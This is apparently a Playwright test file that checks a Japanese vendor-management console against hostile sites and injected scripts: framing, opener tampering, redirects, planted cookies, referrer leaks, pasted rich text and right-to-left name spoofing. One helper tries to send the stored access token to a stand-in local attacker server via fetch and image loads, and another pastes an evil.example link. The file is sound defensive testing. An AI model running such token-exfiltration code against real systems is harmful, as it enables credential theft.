import { createServer, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import * as assert from 'uvu/assert'
import type { Tables } from '../platform/platform.ts'
import { openVendors } from './open.ts'
import { stories } from './story.ts'
import { button, calls, dialog, eventually, focused, heading, press, signOut, stored, tab, vendorsShown } from './steps.ts'

const story = stories('hostile')

const admin = { as: 'systemAdmin' } as const

interface Stranger {
  origin: string
  seen: { path: string; headers: IncomingMessage['headers'] }[]
}

const servers: Server[] = []
story.after(() => {
  for (const server of servers) {
    server.close()
    server.closeAllConnections()
  }
})

/** Serves a hostile site on another origin until the last story: the same page for every path, recording requests. */
async function stranger(body = ''): Promise<Stranger> {
  const seen: Stranger['seen'] = []
  const server = createServer(({ url = '', headers }, outgoing) => {
    seen.push({ path: url, headers })
    const open = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }
    outgoing.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...open })
    outgoing.end(`<!doctype html><html lang="ja"><title>よその頁</title><main><h1>よその頁</h1>${body}</main>`)
  })
  await new Promise<void>(resolve => server.listen(0, 'localhost', resolve))
  servers.push(server)
  return { origin: `http://localhost:${(server.address() as AddressInfo).port}`, seen }
}

const elsewhere = /request to another origin: http:\/\/localhost:/

story(
  'H51 another site can put the console into no frame',
  async ({ page, origin, platform, allow }) => {
    allow(elsewhere)
    allow(/Refused to (frame|display)|frame-ancestors|X-Frame-Options/i)
    const site = await stranger(`<iframe title="x" src="${origin}/#/vendors"></iframe>`)
    await page.goto(site.origin)
    await eventually(() => assert.is(page.frames().length, 2))
    await page.waitForTimeout(300)
    assert.match(page.frames()[1]!.url(), /^chrome-error:/)
    assert.is(await page.frames()[1]!.getByText('API利用者画面').count(), 0)
    assert.equal(platform.requests, [])
    await page.goto('about:blank')
  },
  admin,
)

story(
  'H52 a site that opens the console in a window has no hold on it, and leaves it neither its name nor a message',
  async tools => {
    const { page, context, origin, platform, allow } = tools
    allow(elsewhere)
    const site = await stranger('<button type="button">開く</button>')
    await page.goto(site.origin)
    await page.evaluate(address => {
      document.querySelector('button')!.addEventListener('click', () => {
        const opened = window.open(address, 'planted-name')!
        Object.assign(globalThis, { opened })
        setInterval(() => {
          try {
            opened.postMessage({ type: 'signOut' }, '*')
          } catch {
            /* Gone. */
          }
        }, 20)
      })
    }, `${origin}/#/vendors`)
    const [opened] = await Promise.all([context.waitForEvent('page'), page.getByRole('button').click()])
    await vendorsShown(opened)
    assert.equal(await opened.evaluate(() => [window.opener, window.name]), [null, ''])
    await eventually(async () => assert.is(await page.evaluate(() => (globalThis as unknown as { opened: Window }).opened.closed), true))
    await opened.waitForTimeout(100)
    await heading(opened, 'ベンダー').waitFor()
    assert.is(calls(platform, 'GET', /logout|end_session/).length, 0)
    await page.close()
  },
  admin,
)

/** Runs in the page: attempts every way to inject markup or code, or to send something to the address, and reports the results. */
async function attack(address: string) {
  const attempt = async (deed: () => unknown) => {
    try {
      await deed()
      return 'done'
    } catch (error) {
      return (error as Error).name
    }
  }
  const load = (element: HTMLElement) =>
    new Promise((resolve, reject) => {
      element.onload = resolve
      element.onerror = () => reject(new TypeError('blocked'))
      document.body.append(element)
    }).finally(() => element.remove())
  // Code evaluated by a debugger may use eval, but code that runs later may not.
  await new Promise(resolve => setTimeout(resolve))
  return {
    markup: await attempt(() => {
      document.createElement('div').innerHTML = '<b>x</b>'
    }),
    write: await attempt(() => document.write('<b>x</b>')),
    code: await attempt(() => (0, eval)('1')),
    made: await attempt(() => new Function('return 1')()),
    policy: await attempt(() =>
      (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy(
        'default',
        { createHTML: (text: string) => text },
      ),
    ),
    request: await attempt(() => fetch(`${address}/fetch?${localStorage.getItem('accessToken')}`)),
    image: await attempt(() => load(Object.assign(new Image(), { src: `${address}/image?${localStorage.getItem('accessToken')}` }))),
    style: await attempt(() => load(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${address}/style` }))),
    beacon: await attempt(() => {
      if (!navigator.sendBeacon(`${address}/beacon`, 'x')) throw new TypeError('blocked')
    }),
    worker: await attempt(() => {
      new Worker(`${address}/worker` as string)
    }),
  }
}

story(
  'H53 a script that got into the page all the same can make no markup and no code, and send nothing away',
  async tools => {
    const { page, origin, allow } = tools
    allow(/content security policy/)
    allow(/console error/)
    allow(elsewhere)
    const site = await stranger()
    await openVendors(page, origin)
    const outcome = await page.evaluate(attack, site.origin)
    const { beacon: _, ...others } = outcome
    assert.equal(
      Object.entries(others).filter(([, how]) => how === 'done'),
      [],
    )
    // Forms and frames raise no error; they just do not load.
    await page.evaluate(address => {
      const form = Object.assign(document.createElement('form'), { action: `${address}/form`, method: 'post' })
      document.body.append(form)
      form.submit()
      const frame = Object.assign(document.createElement('iframe'), { src: `${address}/frame` })
      document.body.append(frame)
      frame.remove()
      form.remove()
    }, site.origin)
    await page.waitForTimeout(300)
    assert.equal(site.seen, [])
    assert.is(new URL(page.url()).origin, origin)
  },
  admin,
)

story(
  'H54 a server that sends a request on to another origin fails it, and the token goes nowhere',
  async tools => {
    const { page, origin, platform, allow } = tools
    allow(/content security policy: connect-src/)
    allow(elsewhere)
    allow(/console error/)
    const site = await stranger()
    const { handle } = platform
    let sentOn = 0
    platform.handle = async request => {
      if (!new URL(request.url).pathname.startsWith('/api/v1/vendors/')) return handle(request)
      sentOn++
      return new Response(null, { status: [301, 307][sentOn % 2]!, headers: { location: `${site.origin}/taken` } })
    }
    await page.goto(`${origin}/#/vendors`)
    await page.getByText('ベンダー情報を取得できませんでした。').first().waitFor()
    await press(page, '再試行')
    // Each of the two loads asks three times, as it gets no answer.
    await eventually(() => assert.is(sentOn, 6))
    await page.getByText('ベンダー情報を取得できませんでした。').first().waitFor()
    assert.equal(site.seen, [])
  },
  admin,
)

story(
  'H55 cookies that the API tries to set are not taken, and its answers stay in no cache',
  async tools => {
    const { page, context, origin, platform, allow } = tools
    allow(/ERR_CACHE_MISS/)
    const { handle } = platform
    const cookies: (string | null)[] = []
    platform.handle = async request => {
      cookies.push(request.headers.get('cookie'))
      const response = await handle(request)
      const headers = new Headers(response.headers)
      headers.set('set-cookie', 'session=planted; Path=/')
      headers.set('cache-control', 'public, max-age=86400')
      return new Response(response.body, { status: response.status, headers })
    }
    await openVendors(page, origin)
    await tab(page, 'グループ').click()
    await heading(page, 'グループ').waitFor()
    assert.equal(await context.cookies(), [])
    assert.equal([...new Set(cookies)], [null])
    const cached = await page.evaluate(() =>
      fetch('/api/v1/vendors/get_detail/', { cache: 'only-if-cached', mode: 'same-origin' }).then(
        response => response.status,
        () => 'none',
      ),
    )
    assert.ok(cached === 'none' || cached === 504, String(cached))
  },
  admin,
)

story('H56 no site that the console leads to learns from where', async ({ page, origin, allow }) => {
  allow(elsewhere)
  allow(/request to another origin: https:\/\/support\.example\//)
  const site = await stranger()
  const auth = { authorizationEndpoint: `${site.origin}/authorize`, clientId: 'console' }
  const support = { url: 'https://support.example/support' }
  await page.route('**/config.json', route => route.fulfill({ json: { auth, support } }))
  await page.route(support.url, async route => {
    site.seen.push({ path: '/support', headers: await route.request().allHeaders() })
    await route.fulfill({ contentType: 'text/html; charset=utf-8', body: '<!doctype html><title>よその頁</title><h1>よその頁</h1>' })
  })
  await page.goto(`${origin}/#/unauthorized?secret=1`)
  await page.getByRole('link', { name: support.url }).click()
  await heading(page, 'よその頁').waitFor()
  assert.is(await page.evaluate(() => document.referrer), '')
  await page.goto(`${origin}/#/intro?secret=1`)
  await press(page, 'サインイン')
  await heading(page, 'よその頁').waitFor()
  const asked = site.seen.filter(({ path }) => /^\/(support|authorize)/.test(path))
  assert.equal(
    asked.map(({ headers }) => headers.referer),
    [undefined, undefined],
  )
  assert.not.match(asked.map(({ path }) => path).join(), 'secret')
  await page.goto('about:blank')
})

story(
  'H58 rich text that is pasted or dropped into a field is its plain text',
  async ({ page, context, origin }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin })
    await openVendors(page, origin)
    await press(page, '追加')
    const field = dialog(page, 'ベンダー追加').getByLabel('ベンダー名')
    await page.evaluate(async () => {
      const html = '<b>太字</b><img alt="x"><a href="https://evil.example/">x</a>'
      const part = (text: string, type: string) => new Blob([text], { type })
      const plain = '太字\u0000<b>'
      await navigator.clipboard.write([
        new ClipboardItem({ 'text/html': part(html, 'text/html'), 'text/plain': part(plain, 'text/plain') }),
      ])
    })
    // The form takes the focus after loading.
    await focused(field)
    await page.keyboard.press('Control+V')
    await eventually(async () => assert.match(await field.inputValue(), /^太字.?<b>$/))
    assert.is(await page.locator('dialog b, dialog img, dialog a').count(), 0)
  },
  admin,
)

story('H59 after a sign-out neither storage, cookies, caches, workers nor databases hold anything', async tools => {
  const { page, context, origin, signIn } = tools
  await signIn('systemAdmin')
  await vendorsShown(page)
  await signOut(page)
  await heading(page, 'API利用者画面').waitFor()
  const { local, session } = await stored(page)
  assert.equal([local, session, await context.cookies(origin)], [{}, {}, []])
  assert.equal(
    await page.evaluate(async () => [
      (await navigator.serviceWorker.getRegistrations()).length,
      (await caches.keys()).length,
      (await indexedDB.databases()).length,
      window.name,
    ]),
    [0, 0, 0, ''],
  )
})

/** Lists Japanese words of the page that render right to left, ignoring line breaks. */
const turned = (page: Page) =>
  page.evaluate(() => {
    const found: string[] = []
    const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
    const range = document.createRange()
    for (let node = texts.nextNode(); node; node = texts.nextNode()) {
      const text = node.textContent ?? ''
      let before: DOMRect | undefined
      for (const { index } of text.matchAll(/[\p{Script=Hiragana}\p{Script=Katakana}\p{Script=Han}]/gu)) {
        range.setStart(node, index)
        range.setEnd(node, index + 1)
        const box = range.getBoundingClientRect()
        if (!box.width) continue
        if (before && Math.abs(box.top - before.top) < 3 && box.left < before.left + 1) found.push(text)
        before = box
      }
    }
    return [...new Set(found)]
  })

const disguised = ['\u202eNAME', '\u05d7\u05d5\u05d5\u05d4 (1)', 'a\u2069\u2069\u202eb', '\u0645\u0632\u0631\u0639\u0629 2\u202e']

/** Gives every entity a disguised name. Returns the address of one of the customer's users. */
function disguise({ vendors, users, vendorUsers, vendorGroups, applications, memberTypes }: Tables): string {
  const [first, , family_name, given_name] = disguised
  disguised.forEach((name, n) => Object.assign(vendors[n]!, { name, is_active: 1 }))
  memberTypes.forEach(type => Object.assign(type, { name: first }))
  for (const { user } of vendorUsers)
    Object.assign(
      users.find(({ id }) => id === user)!,
      { family_name, given_name },
    )
  for (const all of [vendorGroups, applications]) all.forEach((one, n) => Object.assign(one, { name: disguised[n % disguised.length] }))
  return users.find(({ id }) => id === vendorUsers.find(link => link.vendor === 2)!.user)!.user_name
}

story(
  'names that are read from right to left, or turn what follows, turn no word of the console',
  async ({ page, origin, platform }) => {
    const email = disguise(platform.tables)
    const check = async (where: string) => assert.equal(await turned(page), [], where)
    const asks = async (opener: string | RegExp, title: string) => {
      await button(page, opener).first().click()
      await dialog(page, title).getByRole('button').first().waitFor()
      await check(title)
      await press(dialog(page, title), 'キャンセル')
      await dialog(page, title).waitFor({ state: 'detached' })
    }
    await openVendors(page, origin, '?vendors.rows=0')
    await check('vendors')
    await page.goto(`${origin}/#/users?vendor=2&users.rows=0`)
    await button(page, `${email}を編集`).first().waitFor()
    await check('users')
    await asks(`${email}を削除`, 'ユーザー削除')
    await asks(`${email}のパスワードをリセット`, 'パスワードリセット')
    await tab(page, 'グループ').click()
    await heading(page, 'グループ').waitFor()
    await asks(/を編集$/, 'グループ編集')
    await tab(page, 'アプリケーション').click()
    await heading(page, 'アプリケーション').waitFor()
    await asks(/を削除$/, 'アプリケーション削除')
    await page.keyboard.press('Control+k')
    await dialog(page, '検索と操作').getByRole('combobox').fill('NAME')
    await dialog(page, '検索と操作').getByRole('option').nth(2).waitFor()
    await check('palette')
  },
  admin,
)

story.run()
